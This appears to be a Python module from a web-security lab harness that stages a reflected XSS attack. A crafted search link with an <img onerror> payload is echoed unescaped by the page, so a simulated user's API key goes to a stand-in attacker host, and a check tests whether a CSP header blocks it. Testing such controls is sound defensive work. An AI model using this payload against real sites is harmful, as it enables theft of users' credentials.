"""Reflected XSS: a link whose search words are HTML, and the page repeats them through ``|safe``."""

from __future__ import annotations

from html import escape
from urllib.parse import urlencode

from ..results import Outcome
from ..stage import Stage
from .base import Attack
from .scripts import steal_key, words, would_run


def in_browser(stage: Stage) -> Outcome:
    """Let ada follow the link."""
    link = escape(stage.url + _path(steal_key(stage.loot_url("reflected"))))
    path = stage.attacker.publish(f"link-{stage.name}", f'<a href="{link}">The photos from Friday</a>')
    with stage.page("ada") as page:
        page.goto(stage.attacker.stranger + path)
        page.click("a")
        page.wait_for_url(f"{stage.url}/**")
        found = stage.received("reflected", page)
    return Outcome(found is not None, words(found), {"received": found})


def over_http(stage: Stage) -> Outcome:
    """Read the page and its policy as a browser would."""
    code = steal_key(stage.loot_url("reflected"))
    runs = would_run(stage.client("ada").get(_path(code)), code)
    proof = "The link's handler is in the page and nothing stops it" if runs else "The policy does not let it run"
    return Outcome(runs, proof)


def _path(code: str) -> str:
    return "/search?" + urlencode({"q": f'<img src=x onerror="{code}">'})


ATTACK = Attack(
    slug="reflected-script",
    title="Reflected script",
    story="Ada follows a link whose search words are an <img onerror>; her API key goes to mallory.",
    control="headers.csp",
    in_browser=in_browser,
    over_http=over_http,
)
